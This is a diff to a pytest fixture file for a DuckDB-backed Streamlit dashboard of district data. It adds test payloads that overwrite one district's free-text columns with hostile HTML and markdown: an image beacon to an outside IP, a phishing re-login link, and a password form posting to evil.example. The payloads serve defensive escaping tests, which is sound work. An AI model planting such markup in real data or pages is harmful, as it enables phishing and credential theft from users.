@@ -82,3 +82,46 @@ def second_seed_con(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb
     connection = queries.connect(build(tmp_path_factory.mktemp("warehouse-seed7"), seed=7))
     yield connection
     connection.close()
+
+
+# Markup an attacker could put into an office's export file: HTML that fetches from outside,
+# a phishing link and a password form; markdown that does the same; Streamlit's own styling.
+HOSTILE_HTML = (
+    '<img src="http://203.0.113.9/b.png" data-hostile="1"><a href="http://evil.example/login" data-hostile="1">请重新登录</a>'
+    '<style>.hostile-style{}</style><form action="http://evil.example/f" data-hostile="1"><input name="pw"></form>'
+)
+HOSTILE_MARKDOWN = "![x](http://203.0.113.9/beacon.png)[请点此重新登录](http://evil.example/login):red[HOSTILE_RED]**HOSTILE_BOLD**"
+HOSTILE = HOSTILE_HTML + HOSTILE_MARKDOWN
+HOSTILE_DISTRICT = "110101"  # 东城: every imported name there is hostile
+
+
+@pytest.fixture(scope="session")
+def hostile_warehouse_path(warehouse_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The demo warehouse with every imported free-text column of 东城 (and every volunteer project's
+    service category there) replaced by hostile markup, as an import of a doctored file would leave it."""
+    import shutil
+
+    from data import rollups
+
+    path = tmp_path_factory.mktemp("hostile") / "warehouse.duckdb"
+    shutil.copyfile(warehouse_path, path)
+    con = duckdb.connect(str(path))
+    try:
+        district = [HOSTILE_DISTRICT]
+        # Names stay unique (streets and alleys are looked up by name within a district).
+        for table, column in (("streets", "name"), ("alleys", "name"), ("villages", "name"), ("volunteer_projects", "name")):
+            con.execute(
+                f"update {table} as t set {column} = ? || n.i "  # fixed table and column names, values bound
+                f"from (select rowid as r, row_number() over () as i from {table} where district_code = ?) as n "
+                "where t.rowid = n.r",
+                [HOSTILE, *district],
+            )
+        con.execute("update volunteer_projects set category = ? where district_code = ?", [HOSTILE, *district])
+        con.execute(
+            "update alley_supervisions set main_problem = ? where alley_id in (select alley_id from alleys where district_code = ?)",
+            [HOSTILE, *district],
+        )
+        rollups.rebuild(con)
+    finally:
+        con.close()
+    return path
